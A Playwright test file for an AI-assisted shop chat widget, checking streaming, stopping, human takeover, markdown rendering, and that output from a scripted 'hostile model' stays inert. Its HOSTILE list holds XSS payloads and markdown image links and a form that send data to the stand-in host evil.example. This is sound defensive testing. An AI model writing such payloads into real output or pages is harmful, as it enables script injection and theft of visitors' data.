import { setTimeout as sleep } from "node:timers/promises";
import { expect, type Page } from "@playwright/test";
import { type Script, saying } from "../test/scriptedProvider.ts";
import { acceptOnly, openAgent, openVisitor } from "./parties.ts";
import { type ScriptedPlatform, scriptedPort, startScriptedPlatform } from "./scriptedPlatform.ts";
import { test } from "./story.ts";

/** Stories with a language model, which a scripted server plays: it does whatever an attacker would like it to do. */
test.use({ baseURL: `http://localhost:${scriptedPort}` });
test.describe.configure({ mode: "serial" });

let platform: ScriptedPlatform;
test.beforeAll(async () => {
  platform = await startScriptedPlatform();
});
test.afterAll(async () => {
  await platform?.close();
});

/** Writes until somebody stops it, however slow the machine is that looks on. */
const endless: Script = async (line) => {
  for (let n = 1; !line.isGone; n += 1) {
    await line.say(`word${n} `);
    await sleep(50);
  }
};

/** Dialogs and requests to strangers: there must be none. */
function watch(page: Page, alarms: string[]): void {
  page.on("dialog", (dialog) => {
    alarms.push(`dialog ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on("request", (sent) => {
    if (sent.url().includes("evil.example")) alarms.push(`request ${sent.url()}`);
  });
}

test("V6: an answer grows while it is written, is labelled, is stopped by the visitor, and stays one message", async ({
  browser,
  site,
}) => {
  const visitor = await openVisitor(browser, site.origin, "Shop");
  platform.provider.next(endless);
  await visitor.say("Tell me a long story");
  const answer = visitor.feed.locator(".row:not(.me)", { hasText: "word1 " });
  await expect(answer.getByText("word3 ", { exact: false })).toBeVisible();
  await expect(answer.getByText("AI", { exact: true })).toBeVisible();

  await visitor.panel.getByRole("button", { name: "Stop", exact: true }).click();
  await expect(answer.getByText("Stopped before the end")).toBeVisible();
  await expect(answer).toHaveCount(1);
  await platform.provider.idle(); // nothing streams on at somebody's cost
  const kept = await answer.locator(".bubble").textContent();

  await visitor.page.reload();
  const again = visitor.page.getByRole("dialog", { name: "Shop" }).locator(".row:not(.me)", { hasText: "word1 " });
  await expect(again.getByText("Stopped before the end")).toBeVisible();
  expect(await again.locator(".bubble").textContent()).toBe(kept);
});

test("A7: a person who steps in while the assistant writes is the only one who speaks", async ({
  browser,
  work,
  site,
}) => {
  const visitor = await openVisitor(browser, site.origin, "Shop");
  platform.provider.next(endless);
  await visitor.say("Tell me a long story");
  await expect(visitor.feed.getByText("word3 ")).toBeVisible();
  const { items } = await work.api<{ items: { id: string }[] }>("GET", "/sessions");
  await work.api("POST", `/agents/sessions/${items[0]?.id}/accept`);
  await expect(visitor.feed.getByText("Olivia Owner joined the chat")).toBeVisible();
  await expect(visitor.feed.getByText("word1 ")).toBeHidden();
  await platform.provider.idle();
  const transcript = await work.api<{ items: { sender: { kind: string }; kind: string }[] }>(
    "GET",
    `/sessions/${items[0]?.id}/messages`,
  );
  expect(transcript.items.filter((row) => row.kind === "text").map((row) => row.sender.kind)).toEqual(["visitor"]);
});

/** Three characters at a time, so that every mark comes in pieces. */
const dripping =
  (text: string): Script =>
  async (line) => {
    for (const piece of text.match(/.{1,3}/gs) ?? []) {
      await line.say(piece);
      await sleep(25);
    }
    await line.finish();
  };

test("an answer shows no marks at any moment while it is written, and ends as what it showed", async ({
  browser,
  site,
}) => {
  const visitor = await openVisitor(browser, site.origin, "Shop");
  platform.provider.next(
    dripping(
      "The **return period** is *30 days*, see [our terms](https://shop.example/terms_(de)).\n\n1. Open `orders`\n2. **Send** it\n\n| Size | Price |\n|---|---|\n| S | 5*3 € |\n\nDone, 5*3*2 cm.",
    ),
  );
  await visitor.feed.evaluate((feed) => {
    const seen: string[] = [];
    Reflect.set(window, "seenAnswers", seen);
    new MutationObserver(() => {
      for (const bubble of feed.querySelectorAll(".row:not(.me) .bubble")) seen.push(bubble.textContent);
    }).observe(feed, { childList: true, subtree: true, characterData: true });
  });
  await visitor.say("How long can I return it?");
  const answer = visitor.feed.locator(".row:not(.me) .bubble", { hasText: "Done, 5*3*2 cm." });
  await expect(answer.locator("td")).toHaveText(["S", "5*3 €"]);
  await platform.provider.idle();
  const seen: string[] = await visitor.page.evaluate(() => Reflect.get(window, "seenAnswers"));
  expect(seen.some((text) => text.includes("The return") && !text.includes("Done"))).toBe(true); // it was seen growing
  expect(seen.filter((text) => /\*\*|\]\(|`|\||\*30|https:/.test(text))).toEqual([]);
});

const HOSTILE = [
  '<img src=x onerror="alert(1)">',
  "<script>alert(2)</script>",
  "<svg/onload=alert(3)>",
  "<iframe src=javascript:alert(4)></iframe>",
  "![x](https://evil.example/?q=secret)",
  "[![x](https://evil.example/i.png)](javascript:alert(5))",
  "[click](javascript:alert(6))",
  "<form action=https://evil.example><input name=attributes></form>",
].join(" ");

test("X50: what a hostile model writes is inert for the visitor and for the agent who takes over", async ({
  browser,
  work,
  site,
}) => {
  const alarms: string[] = [];
  const visitor = await openVisitor(browser, site.origin, "Shop");
  watch(visitor.page, alarms);
  platform.provider.next(saying(HOSTILE, 40));
  await visitor.say("Show me something nice");
  const told = visitor.feed.locator(".row:not(.me) .bubble", { hasText: "<form action=" });
  await expect(told).toContainText("<script>alert(2)</script>");
  await visitor.askForPerson();

  const agent = await openAgent(browser, work.email);
  watch(agent.page, alarms);
  await acceptOnly(agent);
  await expect(agent.log.getByText("<script>alert(2)</script>").first()).toBeVisible();
  for (const surface of [visitor.panel, agent.log]) {
    await expect(surface.locator("img, iframe, form[action], svg[onload], script, input[name=attributes]")).toHaveCount(
      0,
    );
    const links = await surface.locator("a[href]").evaluateAll((all) => all.map((link) => link.getAttribute("href")));
    for (const href of links) expect(href).toMatch(/^(https?:|mailto:|\/)/);
  }
  const cookies = await agent.page.context().cookies();
  expect(cookies.length).toBeGreaterThan(0);
  for (const cookie of cookies) expect(cookie).toMatchObject({ httpOnly: true, sameSite: "Strict" });
  expect(alarms).toEqual([]);
});
